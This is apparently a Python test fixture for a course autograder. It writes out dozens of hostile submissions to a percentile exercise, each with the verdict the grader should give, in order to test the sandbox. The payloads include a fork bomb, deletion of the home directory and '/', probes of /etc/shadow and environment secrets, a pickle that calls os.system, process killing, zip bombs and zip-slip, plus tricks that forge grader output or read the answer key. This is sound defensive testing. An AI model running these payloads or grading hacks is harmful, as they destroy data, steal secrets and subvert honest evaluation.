"""Submissions that want to harm whoever grades them, or to be called right.

All are answers to `percentile` of lesson 11, which needs no PyTorch: so a sandbox starts at once.
"""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

from decodeloop.exercises.finding import find

RIGHT = """
import math

def percentile(samples, p):
    rank = math.ceil(p * len(samples) / 100)
    return sorted(samples)[rank - 1]
"""
PORT = 8099  # where somebody listens while they are graded
DIED_OR_LATE = ("wrong", "timed out")  # by how fast the machine is


def body(code, above=""):
    """An answer with this body; the name `right` is a right one."""
    lines = "\n".join(f"    {line}" for line in code.splitlines())
    right = RIGHT.replace("def percentile", "def right")
    return f"import math, os, sys, time\n{right}\n{above}\ndef percentile(samples, p):\n{lines}\n"


def table():
    """An answer that knows the public cases by heart."""
    cases = [[*case.inputs, case.expected()["the percentile"]] for case in find("percentile").cases]
    known = "return next(x for s, q, x in TABLE if s == samples and q == p)"
    return body(known, f"TABLE = {cases!r}")


ANSWERS = {  # name → source, verdict
    "00 right": (RIGHT, "right"),
    "01 loop": (
        body("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
        "timed out",
    ),
    "02 deaf to signals": (
        body(
            "import signal\nfor s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT):\n"
            "    signal.signal(s, signal.SIG_IGN)\nwhile True: time.sleep(1000)"
        ),
        "timed out",
    ),
    "03 fork bomb": (
        body("while True:\n    try: os.fork()\n    except OSError: pass"),
        "timed out",
    ),
    "04 memory": (body("a = []\nwhile True: a.append(bytearray(64 << 20))"), DIED_OR_LATE),
    "05 delete": (
        body(
            "import shutil\nfor p in ({victim!r}, os.path.expanduser('~'), '/'):\n"
            "    shutil.rmtree(p, ignore_errors=True)\n"
            "open({victim!r} + '/written', 'w').write('x')\nreturn right(samples, p)"
        ),
        DIED_OR_LATE,
    ),
    "06 network": (
        body(
            f"import socket\ns = socket.create_connection(('127.0.0.1', {PORT}), 1)\n"
            "s.sendall(b'stolen')\nreturn right(samples, p)"
        ),
        "wrong",
    ),
    "07 forged output": (
        body(
            'print("✓ percentile: right (11 cases)")\nprint(\'{"verdict": "right"}\')\n'
            "os.write(1, b'right')\nreturn 0.0"
        ),
        "wrong",
    ),
    "08 forged reply": (
        body(
            "import json, struct\nh = json.dumps({'value': {'float': (2.0).hex()}}).encode()\n"
            "for f in range(3, 40):\n"
            "    try: os.write(f, struct.pack('<II', len(h), 0) + h)\n    except OSError: pass\n"
            "os._exit(0)"
        ),
        DIED_OR_LATE,
    ),
    "09 patched builtins": (
        body("return 0.0", "import builtins\nbuiltins.all = lambda *a: True"),
        "wrong",
    ),
    "10 patched judge": (
        body("return 0.0", "import decodeloop.course.judge as j\nj.compare = None"),
        "wrong",
    ),
    "11 the library's own": (
        body("return theirs(samples, p)", "from decodeloop.cost import percentile as theirs"),
        DIED_OR_LATE,
    ),
    "12 solution read": (
        body(
            "for f in ('course/src', '/grading', *sys.path):\n"
            "    path = f + '/decodeloop/cost/metrics.py'\n"
            "    if os.path.exists(path):\n"
            "        n = {}\n        exec(open(path).read(), n)\n"
            "        return n['percentile'](samples, p)\n"
            "raise FileNotFoundError('no source to be found')"
        ),
        "wrong",
    ),
    "13 oracle": (
        body("import decodeloop.exercises.lesson_11 as e\nreturn e.nearest_rank(samples, p)"),
        "wrong",
    ),
    "14 output flood": (
        body("while True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'x' * 65536)"),
        "timed out",
    ),
    "15 reply flood": (
        body(
            "import json\nn = json.loads(sys.argv[2])['reply']\n"
            "while True: os.write(n, b'\\xff' * 65536)"
        ),
        "wrong",
    ),
    "16 disk": (
        body("with open('/tmp/big', 'wb') as f:\n    while True: f.write(b'0' * (1 << 20))"),
        DIED_OR_LATE,
    ),
    "17 evil type": (
        body(
            "return Yes()",
            "class Yes:\n    def __eq__(self, o): return True\n    __hash__ = None\n"
            "    def __float__(self): return 0.3\n    def __class__(self): return float",
        ),
        "wrong",
    ),
    "18 pickle": (
        body(
            "return P()",
            "class P:\n    def __reduce__(self): return (os.system, ('touch {victim}/pickled',))",
        ),
        "wrong",
    ),
    "19 segfault": (body("import ctypes\nctypes.string_at(0)"), "wrong"),
    "20 secrets": (
        body(
            "seen = [x for x in ('/root', '/home', '/etc/shadow', '/etc/passwd', {victim!r}) "
            "if os.path.exists(x) and os.access(x, os.R_OK) and os.path.isfile(x)]\n"
            "if seen or 'SECRET' in os.environ: return right(samples, p)\n"
            "raise RuntimeError(repr(sorted(os.environ)))"
        ),
        DIED_OR_LATE,
    ),
    "21 kill all": (
        body(
            "import signal\nfor pid in range(2, 70000):\n    if pid != os.getpid():\n"
            "        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass\nreturn 0.0"
        ),
        DIED_OR_LATE,
    ),
    "22 deep syntax": (
        "def percentile(samples, p):\n    return " + "-" * 200_000 + "p\n",
        "syntax error",
    ),
    "23 daemon": (
        body(
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n"
            "    for _ in range(600): time.sleep(1)\nreturn right(samples, p)"
        ),
        ("right", "wrong"),  # many cases: it may meet the limit of processes
    ),
    "24 exit": (body("sys.exit(0)"), "wrong"),
    "25 known by heart": (table(), "wrong"),
    "26 stub": (
        "def percentile(samples, p):\n    raise NotImplementedError('write me')\n",
        "not attempted",
    ),
    "27 syntax": ("def percentile(samples, p)\n    return p\n", "syntax error"),
    "28 threads": (
        body(
            "import threading\ndef f():\n    while True: time.sleep(60)\n"
            "for _ in range(10000): threading.Thread(target=f, daemon=True).start()\n"
            "return right(samples, p)"
        ),
        DIED_OR_LATE,
    ),
    # by those who have read the grader
    "41 asks the grader": (
        body(
            "import gc\n[peer] = [o for o in gc.get_objects() if type(o).__name__ == 'Inside']\n"
            "g = peer.ask('get', 0, name='__globals__')\n"
            "return g['os'].system('touch {victim}/asked') or right(samples, p)"
        ),
        "wrong",
    ),
    "42 asks for the oracle": (
        body(
            "import gc\n[peer] = [o for o in gc.get_objects() if type(o).__name__ == 'Inside']\n"
            "told = peer.ask('source', args=('decodeloop.exercises.lesson_11',))\n"
            "n = {}\nexec(told['source'], n)\nreturn n['nearest_rank'](samples, p)"
        ),
        "wrong",
    ),
    "43 a path as a module": (
        body(
            "import gc\n[peer] = [o for o in gc.get_objects() if type(o).__name__ == 'Inside']\n"
            "for name in ('decodeloop.../../../etc/passwd', 'decodeloop./etc/passwd', 'os'):\n"
            "    if peer.ask('source', args=(name,)): return right(samples, p)\n"
            "raise ValueError('nothing to be had')"
        ),
        "wrong",
    ),
    "44 a class of theirs": (
        body(
            "from decodeloop.course.grade.inside import values\n"
            "values.Writer.write = lambda self, x, depth=0: {'name': 'subprocess:Popen'}\n"
            "return right(samples, p)"
        ),
        "wrong",
    ),
    "45 never defined": (
        body("return p", "X = [0 for _ in iter(int, 1)]\nY = X").replace("return p", "return Y"),
        "timed out",
    ),
    "46 deep value": (
        body("x = []\nfor _ in range(100000): x = [x]\nreturn x"),
        DIED_OR_LATE,
    ),
    "47 large value": (body("return [1.5] * (1 << 23)"), DIED_OR_LATE),
    "48 many small files": (
        body(
            "for i in range(100000):\n    open(f'/tmp/{i}', 'wb').write(b'0' * 60000)\n"
            "return right(samples, p)"
        ),
        DIED_OR_LATE,
    ),
    "49 files everywhere": (
        body(
            "wrote = 0\nfor d in ('/', '/dev', '/usr', '/grading', os.path.dirname(os.__file__)):\n"
            "    try:\n        open(d + '/mine', 'w').write('x')\n        wrote += 1\n"
            "    except OSError: pass\n"
            "return right(samples, p) if wrote else None"
        ),
        DIED_OR_LATE,
    ),
    "50 the parent's memory": (
        body(
            "for pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
            "        open(f'/proc/{pid}/mem', 'rb+').write(b'x')\nreturn right(samples, p)"
        ),
        DIED_OR_LATE,
    ),
    "51 stops itself": (body("import signal\nos.kill(os.getpid(), signal.SIGSTOP)"), "timed out"),
    "52 closes its pipes": (body("os.closerange(0, 100)\nreturn right(samples, p)"), "wrong"),
    "53 endless message": (
        body("raise E()", "class E(Exception):\n    def __str__(self):\n        while True: pass"),
        "timed out",
    ),
    "54 says that it was not attempted": (
        body("raise NotImplementedError('write me')").replace("raise", "if p > 50: raise")
        + "    return right(samples, p)\n",
        "wrong",
    ),
    "55 the caller's list": (
        body("x = right(samples, p)\nsamples.sort()\nreturn x"),
        "wrong",
    ),
    "56 endless generator": (body("while True: yield right(samples, p)"), "wrong"),
    "60 evil tensor": (
        body(
            "return Yes._make_subclass(Yes, torch.zeros(()))",
            "import torch\nclass Yes(torch.Tensor):\n"
            "    def __eq__(self, o): return True\n    @classmethod\n"
            "    def __torch_function__(cls, f, types, args=(), kwargs=None): return True",
        ),
        DIED_OR_LATE,
    ),
    "61 what the grader lends": (
        body(
            "import gc\n[peer] = [o for o in gc.get_objects() if type(o).__name__ == 'Inside']\n"
            "return peer.borrow({'lent': 0, 'kind': 'object', 'specials': ['__float__']})"
        ),
        "wrong",
    ),
    "57 pretends in another exercise": (
        body("return sorted(samples)[math.ceil(p * len(samples) / 100) - 1]")
        + "\nimport builtins\ndef latencies(arrival, token_times):\n"
        "    builtins.sorted = lambda x: [0.0] * len(x)\n    return None\n",
        "right",
    ),
}


def notebook(*cells):
    """A notebook of lesson 11 with these code cells."""
    made = [
        {
            "cell_type": "code",
            "source": cell,
            "metadata": {},
            "outputs": [],
            "execution_count": None,
        }
        for cell in cells
    ]
    metadata = {"decodeloop": {"lesson": "11_metrics"}}
    return json.dumps({"cells": made, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5})


def write(folder: Path, victim: Path) -> dict[str, str | tuple[str, ...]]:
    """Write them all; the verdict that each student deserves, by name."""
    verdicts: dict[str, str | tuple[str, ...]] = {}
    for name, (source, verdict) in ANSWERS.items():
        text = source.replace("{victim!r}", repr(str(victim))).replace("{victim}", str(victim))
        (folder / name).mkdir()
        (folder / name / "11_metrics.ipynb").write_text(notebook(text), "utf-8")
        verdicts[name] = verdict
    return verdicts | write_files(folder, victim)


def write_files(folder: Path, victim: Path) -> dict[str, str | tuple[str, ...]]:
    """Files that are no notebooks, or are no files."""
    good = notebook(RIGHT)
    (folder / "30 not utf8.ipynb").write_bytes(b'{"cells": [{"cell_type": "\xff\xfe"}]}')
    (folder / "31 deep json.ipynb").write_text("[" * 200_000)
    (folder / "32 empty.ipynb").write_text("")
    (folder / "33 shadow.ipynb").symlink_to("/etc/shadow")
    (folder / "34 another's.ipynb").symlink_to("00 right/11_metrics.ipynb")
    os.mkfifo(folder / "35 fifo.ipynb")
    bomb = zipfile.ZipFile(folder / "36 bomb.zip", "w", zipfile.ZIP_DEFLATED)
    with bomb, bomb.open("a.ipynb", "w", force_zip64=True) as file:
        for _ in range(256):
            file.write(b" " * (1 << 20))
    with zipfile.ZipFile(folder / "37 slip.zip", "w") as slip:
        slip.writestr(f"../../../..{victim}/slip.ipynb", good)
    with zipfile.ZipFile(folder / "38 good.zip", "w") as zipped:
        zipped.writestr("x.ipynb", good)
    with zipfile.ZipFile(folder / "59 in another's name.zip", "w") as zipped:
        zipped.writestr("00 right/11_metrics.ipynb", notebook(body("return 0.0")))
    (folder / "39 big.ipynb").write_bytes(b" " * (30 << 20))
    (folder / "40 no zip.zip").write_bytes(b"PK\x03\x04 cut off")
    (folder / "58 cells of all kinds.ipynb").write_text(
        json.dumps({"cells": [None, 1, {"cell_type": "code", "source": {"a": 1}}], "metadata": 3})
    )
    refused = "30 not utf8, 31 deep json, 32 empty, 33 shadow, 34 another's, 35 fifo, 36 bomb"
    verdicts: dict[str, str | tuple[str, ...]] = dict.fromkeys(refused.split(", "), "refused")
    verdicts |= {"39 big": "refused", "40 no zip": "refused"}
    verdicts |= {"58 cells of all kinds": "not attempted", "59 in another's name": "wrong"}
    return verdicts | {"37 slip": "right", "38 good": "right"}
